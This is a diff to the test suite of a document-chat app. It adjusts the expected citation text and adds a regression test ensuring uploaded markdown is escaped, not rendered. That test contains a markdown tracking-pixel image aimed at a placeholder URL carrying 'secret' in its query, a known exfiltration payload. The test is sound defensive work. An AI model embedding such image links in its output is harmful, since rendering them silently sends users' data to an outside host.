@@ -57,7 +57,12 @@ def upload(at: AppTest, *files: tuple[str, bytes]) -> AppTest:
 
 
 def texts(elements) -> str:
-    return "\n".join(str(e.value) for e in elements)
+    """What the elements show: Markdown escapes and HTML entities undone."""
+    import html
+    import re
+
+    raw = "\n".join(str(e.value) for e in elements)
+    return html.unescape(re.sub(r"\\([^\w\s])", r"\1", raw))
 
 
 def test_empty_library_explains_what_to_do(home):
@@ -80,7 +85,7 @@ def test_upload_index_ask_and_see_a_citation_card(home):
     assert "Bananas are yellow" in texts(user.markdown)
     shown = texts(assistant.markdown)
     assert "Bananas are yellow and rich in potassium [1]" in shown
-    assert "[1] **bananas\\.md** · Bananas" in shown
+    assert "[1] **bananas.md** · Bananas" in shown
     assert "<mark>Bananas are yellow and rich in potassium.</mark>" in shown
     at.toggle(key=[t.key for t in at.toggle if t.key and t.key.startswith("open-")][0]).set_value(
         True
@@ -94,7 +99,7 @@ def test_a_pdf_citation_names_its_page_and_opens_it(home):
     indexed(home, 1)
     at.run().chat_input[0].set_value("The filter is cleaned monthly").run()
     shown = texts(at.chat_message[1].markdown)
-    assert "[1] **guide\\.pdf** · page 3" in shown
+    assert "[1] **guide.pdf** · page 3" in shown
     [toggle] = [t for t in at.toggle if t.label == "Open page 3"]
     toggle.set_value(True).run()
     assert not at.exception and len(at.get("image")) == 1  # the page, rendered
@@ -138,7 +143,7 @@ def test_chats_are_kept_renamed_and_deleted_across_a_restart(home):
     [chat] = [b for b in at.sidebar.button if b.key and b.key.startswith("chat-")]
     assert chat.label == "Bananas are yellow and rich in potassium"
     chat.click().run()
-    assert "[1] **a\\.md**" in texts(at.chat_message[1].markdown)
+    assert "[1] **a.md**" in texts(at.chat_message[1].markdown)
     at.sidebar.text_input(key="chat_title").set_value("Fruit").run()
     [b for b in at.sidebar.button if b.label == "Rename"][0].click().run()
     assert [b.label for b in at.sidebar.button if b.key and b.key.startswith("chat-")] == ["Fruit"]
@@ -159,7 +164,7 @@ def test_library_view_status_failure_related_and_remove(home, tmp_path):
     reason = dict(zip(table["document"], table["reason"]))["broken.pdf"]
     assert reason and "broken.pdf: failed" in texts(at.error)
     at.selectbox[0].set_value(str(home / "uploads" / "a.md")).run()
-    assert "**b\\.txt**" in texts(at.markdown)  # related documents
+    assert "**b.txt**" in texts(at.markdown)  # related documents
     [b for b in at.button if b.label == "Remove"][0].click().run()
     deadline = time.monotonic() + 30
     while (home / "uploads" / "a.md").exists() and time.monotonic() < deadline:
@@ -240,3 +245,24 @@ def test_the_mode_in_use_and_a_follow_ups_search_are_shown(home):
     at.chat_input[0].set_value("and what colour are they?").run()
     assert not at.exception, at.exception
     assert "searched for: Bananas are yellow" in texts(at.caption)
+
+
+def test_document_markdown_is_shown_as_text_never_rendered(home):
+    """A note's image would make the browser fetch a URL; its heading, math and links must not
+    render either, in the answer (quotes mode shows the document's own sentence) or its card."""
+    note = (
+        b"# Leak\n\nThe tracking pixel is ![x](http://127.0.0.1:9/leak.png?q=secret) in the note."
+        b"\n\nPrices were $5 and $6 then.\n"
+    )
+    at = upload(start(), ("leak.md", note))
+    indexed(home, 1)
+    at.run()
+    [r for r in at.sidebar.radio if r.label == "Answer mode"][0].set_value("quotes").run()
+    at.chat_input[0].set_value("What is the tracking pixel in the note?").run()
+    assert not at.exception, at.exception
+    shown = [str(e.value) for e in at.markdown]
+    assert any("tracking pixel" in s for s in shown)
+    for s in shown:
+        assert "![x](" not in s, s  # escaped (\!\[x\]\() or inside one line of escaped HTML
+        if s.startswith("<div"):
+            assert "\n" not in s, s  # a blank line would end the HTML block: Markdown again
